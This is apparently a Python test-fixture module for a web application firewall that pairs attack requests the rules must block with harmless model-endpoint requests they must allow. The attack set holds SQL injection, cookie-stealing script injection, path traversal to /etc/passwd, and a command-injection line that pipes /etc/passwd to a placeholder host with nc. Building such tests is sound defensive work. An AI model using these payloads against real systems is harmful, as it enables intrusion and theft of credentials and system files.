"""Attacks that every set of rules must know, and questions that none may refuse: tried before the firewall is opened.

Each is a caller's own question to an endpoint. They are harmless texts: nothing here is ever run.
"""

from __future__ import annotations

from assay.engines.firewall.transaction import Request

_HEADERS = (
    (b"Host", b"models.example"),
    (b"User-Agent", b"client/1.0"),
    (b"Accept", b"application/json"),
    (b"Content-Type", b"application/json"),
)


def _asks(*texts: str, target: bytes = b"/invocations", **headers: bytes) -> Request:
    given = [(n.replace("_", "-").encode(), v) for n, v in headers.items()]
    size = (b"Content-Length", b"100")
    return Request(
        target=target,
        headers=(*_HEADERS, size, *given),
        texts=[("note", t) for t in texts] or [("note", "good")],
    )


ATTACKS = {
    "an SQL injection in a text": _asks("1' OR '1'='1' UNION SELECT password FROM users --"),
    "a script in a text": _asks("<script>alert(document.cookie)</script>"),
    "a path out of the folder in a text": _asks("../../../../etc/passwd"),
    "a shell command in a text": _asks("x; cat /etc/passwd | nc example.invalid 80"),
    "an SQL injection in the query": _asks(target=b"/invocations?id=1%27%20OR%20%271%27=%271"),
    "a script in a header": _asks(Referer=b"<script>alert(1)</script>"),
    "a path out of the folder in the path": _asks(target=b"/invocations/../../../etc/passwd"),
    "an attack behind harmless texts": _asks("United-States", "Bachelors", "<script>alert(1)</script>"),
}
HARMLESS = {
    "a question of numbers alone": _asks(),
    "a question of categories": _asks("United-States", "Bachelors", "Resort Hotel", "BB"),
    "a sentence": _asks("The room was clean, and the staff answered our questions."),
}
